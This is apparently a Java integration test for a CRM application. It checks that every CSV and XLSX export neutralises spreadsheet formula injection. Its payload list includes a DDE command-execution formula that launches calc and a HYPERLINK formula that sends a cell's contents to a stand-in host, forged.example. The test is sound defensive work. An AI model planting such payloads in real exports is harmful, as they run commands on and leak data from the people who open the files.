package org.rapportcrm.it;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Cells that a spreadsheet would calculate, in every file that the program hands out. */
class ExportAttackIT {

  private static final List<String> FORMULAS =
      List.of(
          "=cmd|' /C calc'!A0",
          "+1",
          "-1",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://forged.example?\"&A1,\"x\")",
          "\uFF1D1+1",
          "\uFF0B1",
          "\uFF0D1",
          "\uFF20SUM(A1)");

  /** Blanks before a formula that forms take off and REST or files may not. */
  private static final List<String> BLANKS = List.of("\t=1+1", "\r=1+1", "\n=1+1");

  private static final Pattern CELL = Pattern.compile("<t[^>]*>([^<]*)</t>");
  private static final String DANGEROUS = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";

  private final RunningRapport rapport = SharedRapport.get();
  private final Api admin = SharedRapport.admin();
  private final String token =
      rapport.run("token", "--user", RunningRapport.ADMIN, "--scope", "admin");
  @TempDir private Path folder;

  private final SoftAssertions softly = new SoftAssertions();

  @Test
  void noFileHasACellThatASpreadsheetCalculates() throws Exception {
    String mark = "calc" + Long.toString(System.nanoTime(), 36);
    fill(mark);
    Path refused = folder.resolve("refused.csv");
    StringBuilder rows = new StringBuilder("email,\"=1+1\"\n");
    FORMULAS.forEach(one -> rows.append("\"no address\",\"" + one.replace("\"", "\"\"") + "\"\n"));
    BLANKS.forEach(one -> rows.append("\"no address\",\"" + one + "\"\n"));
    Files.writeString(refused, rows);
    JsonObject run = admin.awaitImport(admin.sendFile("contacts", refused, Map.of(), "{}").json());

    List<String> exports = new ArrayList<>();
    for (Routes route : Routes.of(admin)) {
      if (route.isRest()
          && route.method().equals("GET")
          && route.path().matches("/api/v1/[a-z]+/export")) {
        exports.add(route.path() + "?format=csv");
        exports.add(route.path() + "?format=xlsx");
      }
    }
    assertThat(exports).hasSizeGreaterThanOrEqualTo(12);
    exports.add("/api/v1/imports/" + run.get("id") + "/rejected");
    int found = 0;
    for (String path : exports) {
      byte[] file = file(path);
      List<String> cells = path.endsWith("xlsx") ? workbook(file, path) : csv(file);
      softly.assertThat(cells).as(path).isNotEmpty();
      for (String cell : cells) {
        boolean number = cell.matches("[+-]?[0-9.]+");
        softly
            .assertThat(!cell.isEmpty() && DANGEROUS.indexOf(cell.charAt(0)) >= 0 && !number)
            .as(path + ": " + cell)
            .isFalse();
        found += cell.startsWith("'") ? 1 : 0;
      }
    }
    softly.assertThat(found).as("cells that were made harmless").isGreaterThan(60);
    softly.assertAll();
  }

  private void fill(String mark) {
    Object user = admin.get("/api/v1/users").getJsonArray("items").getJsonObject(0).get("id");
    int n = 0;
    List<String> all = new ArrayList<>(FORMULAS);
    all.addAll(BLANKS);
    for (String text : all) {
      String company = text + " " + mark + n;
      JsonObject contact =
          made(
              "/api/v1/contacts",
              Map.of(
                  "email", mark + n++ + "@example.com",
                  "firstName", text,
                  "lastName", text,
                  "company", company,
                  "source", text,
                  "city", text));
      String about = contact.get("id").toString();
      made("/api/v1/interactions", Map.of("contact", about, "kind", "note", "summary", text));
      made("/api/v1/tasks", Map.of("title", text, "contact", about, "assignee", user.toString()));
      made(
          "/api/v1/deals",
          Map.of("name", text, "contact", about, "amount", "1", "currency", "EUR"));
      made(
          "/api/v1/purchases",
          Map.of("contact", about, "amount", "1", "currency", "EUR", "note", text));
    }
  }

  /** What is refused as it is named there is left out: the walk looks at what comes out. */
  private JsonObject made(String path, Map<String, String> fields) {
    var body = Json.createObjectBuilder();
    fields.forEach(
        (name, value) -> {
          if (value.matches("[0-9]+") && !name.equals("firstName")) {
            body.add(name, Long.parseLong(value));
          } else {
            body.add(name, value);
          }
        });
    Api.Answer answer = admin.ask("POST", path, body.build().toString());
    return answer.status() < 300
        ? answer.json()
        : Json.createObjectBuilder().add("id", 1).add("refused", answer.body()).build();
  }

  private byte[] file(String path) throws IOException, InterruptedException {
    HttpRequest request =
        HttpRequest.newBuilder(URI.create(rapport.url() + path))
            .header("Authorization", "Bearer " + token)
            .build();
    HttpResponse<byte[]> answer =
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofByteArray());
    assertThat(answer.statusCode())
        .as(path + new String(answer.body(), StandardCharsets.UTF_8))
        .isEqualTo(200);
    return answer.body();
  }

  private static List<String> csv(byte[] file) {
    String text = new String(file, StandardCharsets.UTF_8).replace("\ufeff", "");
    List<String> cells = new ArrayList<>();
    for (CsvRecord row : CsvReader.builder().ofCsvRecord(text)) {
      cells.addAll(row.getFields());
    }
    return cells;
  }

  private static String plain(String xml) {
    return Pattern.compile("&#x([0-9a-fA-F]+);")
        .matcher(xml.replace("&apos;", "'").replace("&#39;", "'"))
        .replaceAll(
            sign ->
                Matcher.quoteReplacement(Character.toString(Integer.parseInt(sign.group(1), 16))));
  }

  private List<String> workbook(byte[] file, String path) throws IOException {
    List<String> cells = new ArrayList<>();
    Path workbook = Files.write(folder.resolve("workbook.xlsx"), file);
    try (ZipFile zip = new ZipFile(workbook.toFile())) {
      for (ZipEntry entry : Collections.list(zip.entries())) {
        boolean sheet = entry.getName().contains("worksheets/");
        if (sheet || entry.getName().contains("sharedStrings")) {
          String xml = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
          softly.assertThat(xml).as(path).doesNotContain("<f>", "<f ");
          CELL.matcher(xml).results().forEach(text -> cells.add(plain(text.group(1))));
        }
      }
    }
    return cells;
  }
}
